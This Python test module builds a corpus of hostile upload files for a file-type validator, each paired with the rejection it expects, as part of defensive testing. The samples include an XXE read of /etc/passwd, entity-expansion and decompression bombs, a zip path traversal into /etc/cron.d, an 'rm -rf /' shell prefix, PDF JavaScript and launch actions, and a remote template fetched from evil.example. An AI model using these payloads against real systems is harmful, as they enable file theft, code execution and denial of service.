"""Files that somebody might send to do harm, made here; each with the sentence it must meet, or None when harmless."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from tests.builders.uploads import a_jpeg, a_pdf
from uploads.filetypes import decide, office, pdf, pictures, table

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOC = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def a_docx(
    main: str = WORD, extra: dict[str, bytes] | None = None, document: str = DOC, part: str = "word/document.xml"
) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{part}" ContentType="{main}"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r" Type="{OFFICE}/officeDocument" Target="{part}"/></Relationships>',
        )
        archive.writestr(part, document)
        for name, body in (extra or {}).items():
            archive.writestr(name, body)
    return made.getvalue()


def a_relation(kind: str, target: str) -> dict[str, bytes]:
    text = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="x" Type="{OFFICE}/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    )
    return {"word/_rels/document.xml.rels": text.encode()}


def a_zip(entries: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
    return made.getvalue()


def a_pdf_with(change, **how) -> bytes:
    document = pikepdf.open(io.BytesIO(a_pdf()))
    change(document)
    made = io.BytesIO()
    document.save(made, **how)
    return made.getvalue()


def _javascript(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _javascript_in_a_name_tree(document):
    action = document.make_indirect(Dictionary(S=Name.JavaScript, JS=document.make_stream(b"app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action])))


def _launch(document):
    page = document.pages[0].obj
    act = Dictionary(S=Name.Launch, F=String("calc.exe"))
    page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)])


def _attachment(document):
    document.attachments["secret.exe"] = b"MZ" * 100


def _attached_comment(document):
    held = Stream(document, b"MZ")
    page = document.pages[0].obj
    spec = Dictionary(Type=Name.Filespec, F=String("x"), EF=Dictionary(F=held))
    page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec)])


def _xfa(document):
    document.Root.AcroForm = Dictionary(XFA=String("<xdp/>"), Fields=Array([]))


def a_huge_png(side: int = 12_000) -> bytes:
    """144 million pixels in a few kilobytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    lines = zlib.compressobj(9)
    body = b"".join(lines.compress(b"\0" * (side // 8 + 1)) for _ in range(side)) + lines.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _lying_sizes() -> bytes:
    """The archive says each part is small; what comes out is not."""
    data = bytearray(a_docx(extra={"word/big.bin": b"\0" * 3_000_000}))
    true = struct.pack("<I", 3_000_000)
    while (at := data.find(true)) >= 0:
        data[at : at + 4] = struct.pack("<I", 1000)
    return bytes(data)


def _gif() -> bytes:
    made = io.BytesIO()
    Image.new("P", (9, 9)).save(made, "GIF")
    return made.getvalue()


BOMB = b"\0" * (60 * 1024 * 1024)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'

# name → (bytes, file name, sentence or None)
CORPUS = {
    "empty file": (b"", "a.pdf", decide.EMPTY),
    "web page called pdf": (HTML, "a.pdf", decide.NOT_TAKEN),
    "web page called jpg": (HTML, "a.jpg", decide.NOT_TAKEN),
    "web page called docx": (HTML, "a.docx", decide.NOT_TAKEN),
    "web page called csv": (HTML, "a.csv", table.NOT_A_TABLE),
    "drawing called png": (SVG, "a.png", decide.NOT_TAKEN),
    "drawing called csv": (SVG + b",1", "a.csv", table.NOT_A_TABLE),
    "drawing as itself": (SVG, "a.svg", decide.NOT_TAKEN),
    "markup after a byte order mark": (b"\xef\xbb\xbf \n" + HTML + b",", "a.csv", table.NOT_A_TABLE),
    "virus test file": (EICAR, "a.csv", table.NOT_A_TABLE),
    "virus test file called pdf": (EICAR, "a.pdf", decide.NOT_TAKEN),
    "program": (b"MZ\x90\0" + b"\0" * 500, "setup.exe", decide.NOT_TAKEN),
    "old office file": (OLE, "a.doc", decide.NOT_TAKEN),
    "old office file called xlsx": (OLE, "a.xlsx", decide.NOT_TAKEN),
    "animation": (_gif(), "a.gif", decide.NOT_TAKEN),
    "video": (b"\0\0\0\x18ftypmp42" + b"\0" * 100, "a.mp4", decide.NOT_TAKEN),
    "phone picture that browsers cannot show": (b"\0\0\0\x18ftypheic" + b"\0" * 100, "a.heic", decide.HEIC),
    "pdf with javascript": (a_pdf_with(_javascript), "a.pdf", pdf.ACTS),
    "pdf with javascript in a name tree": (a_pdf_with(_javascript_in_a_name_tree), "a.pdf", pdf.ACTS),
    "pdf with javascript in an object stream": (
        a_pdf_with(_javascript_in_a_name_tree, object_stream_mode=pikepdf.ObjectStreamMode.generate), "a.pdf", pdf.ACTS,
    ),
    "pdf that launches": (a_pdf_with(_launch), "a.pdf", pdf.ACTS),
    "pdf with a form program": (a_pdf_with(_xfa), "a.pdf", pdf.ACTS),
    "pdf with an attachment": (a_pdf_with(_attachment), "a.pdf", pdf.CARRIES),
    "pdf with a file in a comment": (a_pdf_with(_attached_comment), "a.pdf", pdf.CARRIES),
    "pdf with a password": (a_pdf_with(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="u")), "a.pdf", pdf.LOCKED),
    "pdf locked for its owner": (a_pdf_with(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="")), "a.pdf", pdf.LOCKED),
    "pdf behind a script": (b"#!/bin/sh\nrm -rf /\n" + a_pdf(), "a.pdf", decide.NOT_TAKEN),
    "pdf cut short": (a_pdf()[:200], "a.pdf", pdf.BROKEN),
    "pdf of nothing": (b"%PDF-1.7\n%%EOF\n", "a.pdf", pdf.BROKEN),
    "pdf and archive in one": (a_pdf() + a_zip({"x.class": b"x"}), "a.pdf", pdf.TWO_IN_ONE),
    "picture of 144 million pixels": (a_huge_png(), "a.png", pictures.TOO_MANY_PIXELS),
    "picture cut short": (a_jpeg()[:400], "a.jpg", pictures.BROKEN),
    "picture of nothing": (b"\xff\xd8\xff\xe0" + b"\0" * 50, "a.jpg", pictures.BROKEN),
    "web page behind a picture's first bytes": (b"\xff\xd8\xff" + HTML, "a.jpg", pictures.BROKEN),
    "plain archive": (a_zip({"a.txt": b"a"}), "a.zip", decide.NOT_TAKEN),
    "plain archive called docx": (a_zip({"a.txt": b"a"}), "a.docx", office.NOT_TAKEN),
    "program archive called docx": (a_zip({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe"}), "a.docx", office.NOT_TAKEN),
    "swollen document": (a_docx(extra={"word/media/a.bin": BOMB}), "a.docx", office.SWOLLEN),
    "archive in the document": (a_docx(extra={"word/embeddings/a.docx": a_zip({"b": BOMB[:2_000_000]})}), "a.docx", office.NESTED),
    "old office file in the document": (a_docx(extra={"word/embeddings/o.bin": OLE}), "a.docx", office.NESTED),
    "ten thousand parts": (a_docx(extra={f"word/{i}.xml": b"<a/>" for i in range(10_000)}), "a.docx", office.SWOLLEN),
    "macro document": (a_docx(MACRO), "a.docm", office.MACROS),
    "macro document called docx": (a_docx(MACRO), "a.docx", office.MACROS),
    "macros in an ordinary document": (a_docx(extra={"word/vbaProject.bin": b"x"}), "a.docx", office.MACROS),
    "document that fetches its template": (a_docx(extra=a_relation("attachedTemplate", "https://evil.example/t.dotm")), "a.docx", office.FOREIGN),
    "document that fetches a picture": (a_docx(extra=a_relation("image", "\\\\evil\\share\\a.png")), "a.docx", office.FOREIGN),
    "document with a script as link": (a_docx(extra=a_relation("hyperlink", "javascript:alert(1)")), "a.docx", office.FOREIGN),
    "document that reads files": (a_docx(document=XXE), "a.docx", office.BROKEN),
    "document that laughs": (a_docx(document=LAUGHS), "a.docx", office.BROKEN),
    "document with a path upwards": (a_docx(extra={"../../etc/cron.d/x": b"x"}), "a.docx", office.BROKEN),
    "document that lies about sizes": (_lying_sizes(), "a.docx", office.BROKEN),
    "document cut short": (a_docx()[:150], "a.docx", office.BROKEN),
    "table in another encoding": ("სახელი;თანხა\n".encode("utf-16"), "a.csv", table.NOT_UTF8),
    "table with a zero byte": (b"a,b\n1,\x002\n", "a.csv", table.NOT_A_TABLE),
    "table with cut letters": ("ა,ბ\n".encode() + b"\xe1\x83", "a.csv", table.NOT_UTF8),
    # harmless, however odd they look
    "plain pdf": (a_pdf(), "a.pdf", None),
    "plain document": (a_docx(), "a.docx", None),
    "document with a link": (a_docx(extra=a_relation("hyperlink", "https://example.org/")), "a.docx", None),
    "plain sheet": (a_docx(SHEET, part="xl/workbook.xml"), "a.xlsx", None),
    "plain table": ("სახელი;თანხა\nა;1,5\n".encode(), "a.csv", None),
    "table with formulas": (b"a,b\n=1+1,@x\n", "a.csv", None),
    "picture with an archive behind it": (a_jpeg() + a_zip({"A.class": b"x"}), "a.jpg", None),
    "picture under another name": (a_jpeg(), "a.png", None),
}  # fmt: skip
